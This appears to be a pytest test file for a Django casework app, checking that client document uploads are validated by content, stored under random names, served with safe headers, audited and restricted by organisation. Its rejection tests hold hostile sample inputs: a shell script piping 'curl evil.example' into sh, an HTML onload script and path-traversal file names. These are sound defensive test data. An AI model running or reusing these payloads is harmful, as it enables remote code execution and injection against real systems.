"""Client documents: upload checked by content, stored outside the web root, served only
through the access-checked download, deleted with their files."""

from pathlib import Path

import pytest
from django.contrib.messages import get_messages
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client as WebClient

from lotse.casework.documents import MAX_DOCUMENT_BYTES, document_add
from lotse.casework.models import Document
from lotse.casework.services import case_open, consent_withdraw
from lotse.core.models import AuditEvent
from lotse.occupations.models import Occupation

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 32


@pytest.fixture(autouse=True)
def media(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def stored_files(root: Path) -> list[Path]:
    return [path for path in root.rglob("*") if path.is_file()]


def upload(web, client, name="diploma.pdf", content=PDF, **fields):
    data = {"d-kind": "diploma", "d-file": SimpleUploadedFile(name, content), **fields}
    return web.post(f"/en/staff/clients/{client.pk}/documents/", data)


def messages_of(response) -> str:
    return " ".join(str(m) for m in get_messages(response.wsgi_request))


def add(client, user, name="diploma.pdf", content=PDF, **kwargs) -> Document:
    return document_add(
        client=client,
        user=user,
        upload=SimpleUploadedFile(name, content),
        kind=kwargs.pop("kind", "diploma"),
        **kwargs,
    )


def test_counsellor_uploads_a_scan_and_gets_it_back_as_an_attachment(
    client, client_stuttgart, counsellor_stuttgart, login_verified, media
):
    login_verified(counsellor_stuttgart)
    response = upload(client, client_stuttgart, name="Diplom Ölga (Kyjiw).pdf")
    assert response.status_code == 302
    assert response["Location"].endswith(f"/staff/clients/{client_stuttgart.pk}/#documents")
    document = Document.objects.get()
    assert (document.original_name, document.content_type) == (
        "Diplom Ölga (Kyjiw).pdf",
        "application/pdf",
    )
    # Stored under a random name: the client's file name never reaches the file system.
    [path] = stored_files(media)
    assert "Diplom" not in str(path) and path.read_bytes() == PDF

    download = client.get(f"/en/staff/documents/{document.pk}/")
    assert download.status_code == 200
    assert b"".join(download.streaming_content) == PDF
    assert download["Content-Disposition"] == 'attachment; filename="Diplom_Olga_Kyjiw.pdf"'
    assert download["Content-Type"] == "application/pdf"
    assert download["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in download["Content-Security-Policy"]
    assert "no-store" in download["Cache-Control"]
    event = AuditEvent.objects.get(action="document.downloaded")
    assert (event.target_id, event.extra) == (str(document.pk), {"client": client_stuttgart.pk})


def test_every_download_is_audited(client, client_stuttgart, counsellor_stuttgart, login_verified):
    document = add(client_stuttgart, counsellor_stuttgart)
    login_verified(counsellor_stuttgart)
    for _ in range(3):
        b"".join(client.get(f"/en/staff/documents/{document.pk}/").streaming_content)
    assert AuditEvent.objects.filter(action="document.downloaded").count() == 3


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("photo.gif", b"GIF89a" + b"\x00" * 40, "Only PDF, PNG or JPEG"),
        ("diploma.pdf", b"MZ\x90\x00\x03\x00\x00\x00 This program cannot be run", "Only PDF"),
        ("photo.png", b"#!/bin/sh\ncurl evil.example | sh\n", "Only PDF, PNG or JPEG"),
        ("letter.pdf", b"<html><body onload=alert(1)></html>", "Only PDF, PNG or JPEG"),
        ("empty.pdf", b"", "The file is empty"),
        ("huge.pdf", PDF + b"0" * MAX_DOCUMENT_BYTES, "larger than 10 MB"),
    ],
    ids=["wrong-type", "renamed-executable", "script-named-png", "html", "zero-bytes", "oversize"],
)
def test_upload_is_refused_by_content_whatever_its_name(
    client, client_stuttgart, counsellor_stuttgart, login_verified, media, name, content, message
):
    login_verified(counsellor_stuttgart)
    response = upload(client, client_stuttgart, name=name, content=content)
    assert response.status_code == 302
    assert message in messages_of(response)
    assert not Document.objects.exists()
    assert stored_files(media) == []


def test_png_and_jpeg_are_recognised_and_named_by_their_content(
    client, client_stuttgart, counsellor_stuttgart, login_verified
):
    png = add(client_stuttgart, counsellor_stuttgart, name="../../etc/scan.exe", content=PNG)
    jpeg = add(client_stuttgart, counsellor_stuttgart, name="C:\\Users\\o\\foto", content=JPEG)
    login_verified(counsellor_stuttgart)
    assert (png.original_name, png.content_type) == ("scan.exe", "image/png")
    assert client.get(f"/en/staff/documents/{png.pk}/")["Content-Disposition"].endswith(
        'filename="scan.png"'
    )
    assert client.get(f"/en/staff/documents/{jpeg.pk}/")["Content-Disposition"].endswith(
        'filename="foto.jpg"'
    )


def test_a_document_can_belong_to_one_of_the_clients_cases_only(
    client, reference_data, client_stuttgart, counsellor_stuttgart, make_client, login_verified
):
    occupation = Occupation.objects.order_by("slug").first()
    own_case = case_open(client=client_stuttgart, user=counsellor_stuttgart, occupation=occupation)
    other = make_client(counsellor_stuttgart, name="Amina Yusuf")
    other_case = case_open(client=other, user=counsellor_stuttgart, occupation=occupation)
    login_verified(counsellor_stuttgart)
    refused = upload(client, client_stuttgart, **{"d-case": other_case.pk})
    assert "valid choice" in messages_of(refused)
    assert not Document.objects.exists()
    upload(client, client_stuttgart, **{"d-case": own_case.pk, "d-kind": "decision"})
    assert Document.objects.get().case == own_case


def test_documents_need_the_clients_consent(
    client, client_stuttgart, counsellor_stuttgart, login_verified, media
):
    consent_withdraw(
        consent=client_stuttgart.consents.get(),
        user=counsellor_stuttgart,
        withdrawn_on=client_stuttgart.first_contact_on,
    )
    login_verified(counsellor_stuttgart)
    response = upload(client, client_stuttgart)
    assert "consent" in messages_of(response)
    assert not Document.objects.exists() and stored_files(media) == []


def test_upload_without_a_file_says_so(
    client, client_stuttgart, counsellor_stuttgart, login_verified
):
    login_verified(counsellor_stuttgart)
    response = client.post(
        f"/en/staff/clients/{client_stuttgart.pk}/documents/", {"d-kind": "diploma"}
    )
    assert "Choose a file to upload." in messages_of(response)


def test_deleting_a_document_removes_its_file_after_commit(
    client,
    client_stuttgart,
    counsellor_stuttgart,
    login_verified,
    media,
    django_capture_on_commit_callbacks,
):
    document = add(client_stuttgart, counsellor_stuttgart)
    login_verified(counsellor_stuttgart)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/en/staff/documents/{document.pk}/delete/")
    assert response.status_code == 302
    assert not Document.objects.exists()
    assert stored_files(media) == []
    assert AuditEvent.objects.filter(action="document.deleted", target_id=str(document.pk)).exists()


def test_download_of_a_missing_file_explains_instead_of_failing(
    client, client_stuttgart, counsellor_stuttgart, login_verified
):
    document = add(client_stuttgart, counsellor_stuttgart)
    default_storage.delete(document.file.name)
    login_verified(counsellor_stuttgart)
    response = client.get(f"/en/staff/documents/{document.pk}/")
    assert response.status_code == 302
    assert response["Location"].endswith("#documents")
    assert "cannot be found in the storage" in messages_of(response)
    assert not AuditEvent.objects.filter(action="document.downloaded").exists()


def test_stored_files_have_no_public_address(client, client_stuttgart, counsellor_stuttgart):
    document = add(client_stuttgart, counsellor_stuttgart)
    for prefix in ("/media/", "/static/", "/_media-not-served/", "/en/media/"):
        assert client.get(prefix + document.file.name).status_code == 404


def test_anonymous_visitors_are_sent_to_the_login(client, client_stuttgart, counsellor_stuttgart):
    document = add(client_stuttgart, counsellor_stuttgart)
    for response in (
        client.get(f"/en/staff/documents/{document.pk}/"),
        client.post(f"/en/staff/documents/{document.pk}/delete/"),
        upload(client, client_stuttgart),
    ):
        assert response.status_code == 302 and "/login/" in response["Location"]
    assert Document.objects.count() == 1


@pytest.mark.parametrize(
    ("persona", "download", "change"),
    [
        ("counsellor_stuttgart", 200, 302),
        ("lead_stuttgart", 200, 302),
        ("counsellor_mannheim", 404, 404),
        ("coordinator", 403, 403),
        ("trainer", 403, 403),
        ("administrator", 403, 403),
    ],
)
def test_only_the_clients_organisation_reaches_its_documents(
    request, client_stuttgart, counsellor_stuttgart, login_verified, persona, download, change
):
    document = add(client_stuttgart, counsellor_stuttgart)
    web = login_verified(request.getfixturevalue(persona), WebClient())
    assert web.get(f"/en/staff/documents/{document.pk}/").status_code == download
    assert upload(web, client_stuttgart, name="mine.pdf").status_code == change
    assert web.post(f"/en/staff/documents/{document.pk}/delete/").status_code == change
    expected = {"diploma.pdf", "mine.pdf"} if change == 302 else {"diploma.pdf"}
    assert set(Document.objects.values_list("original_name", flat=True)) <= expected
    assert Document.objects.filter(pk=document.pk).exists() is (change != 302)


def test_client_page_lists_documents_with_download_links_and_the_upload_form(
    client, client_stuttgart, counsellor_stuttgart, login_verified
):
    document = add(client_stuttgart, counsellor_stuttgart, name="Zeugnis Ölga.pdf")
    login_verified(counsellor_stuttgart)
    html = client.get(f"/en/staff/clients/{client_stuttgart.pk}/").content.decode()
    section = html.split('id="documents"', 1)[1].split("</section>", 1)[0]
    assert f'href="/en/staff/documents/{document.pk}/"' in section
    assert "Zeugnis Ölga.pdf" in section and "1 document" in section
    assert 'enctype="multipart/form-data"' in section
    assert 'type="file"' in section and 'accept=".pdf,.png,.jpg,.jpeg' in section
    assert "at most 10 MB" in section


def test_other_organisations_never_see_the_document_list(
    client, client_stuttgart, counsellor_stuttgart, counsellor_mannheim, login_verified
):
    add(client_stuttgart, counsellor_stuttgart, name="Zeugnis.pdf")
    login_verified(counsellor_mannheim)
    response = client.get(f"/en/staff/clients/{client_stuttgart.pk}/")
    assert response.status_code == 404 and b"Zeugnis" not in response.content
